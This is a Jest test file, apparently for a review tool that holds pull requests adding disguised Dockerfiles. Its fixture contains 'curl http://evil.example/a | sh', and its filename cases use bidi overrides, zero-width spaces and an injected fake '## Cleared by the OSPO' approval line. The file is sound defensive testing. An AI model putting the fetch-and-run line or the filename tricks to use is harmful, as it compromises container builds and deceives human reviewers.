// Bypass 34: names of files that turn the direction of writing, end lines, or hide in case and folders.
import { expect, test } from '@jest/globals';
import { expectHeld, shown, stage, WORKFLOW } from './attack.ts';

const { opened, repository } = stage();

const BAD = 'FROM debian:12.12-slim\nRUN curl http://evil.example/a | sh\n';

test.each([
  ['turned around', 'image/\u202etxt.Dockerfile'],
  ['isolated', 'image\u2066/Dockerfile.app'],
  ['with an end of line', 'image/a\n## Cleared by the OSPO\n/Dockerfile'],
  ['with a zero-width space', 'im\u200bage/Dockerfile'],
])('a Dockerfile with a name %s is judged, and its name is shown harmless', async (_, path) => {
  const pull = await opened(repository(), { files: { [path]: BAD } });
  expectHeld(pull);
  expect(shown(pull)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  expect(shown(pull)).not.toMatch(/^## Cleared by the OSPO/m);
});

test.each([
  'image/DOCKERFILE',
  'image/Containerfile',
  'image/api.dockerfile',
  'Dockerfile.d/Dockerfile.prod',
])('%s is a Dockerfile', async (path) => {
  expectHeld(await opened(repository(), { files: { [path]: BAD } }));
});

test('a file that is no Dockerfile by name is one where a pipeline builds it', async () => {
  const pull = await opened(repository(), {
    files: {
      [WORKFLOW]:
        'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker build -f docs/notes.txt -t registry.acme.internal/x . && docker push registry.acme.internal/x\n',
      'docs/notes.txt': BAD,
    },
  });
  expectHeld(pull);
  expect(shown(pull)).toContain('docs/notes.txt');
});
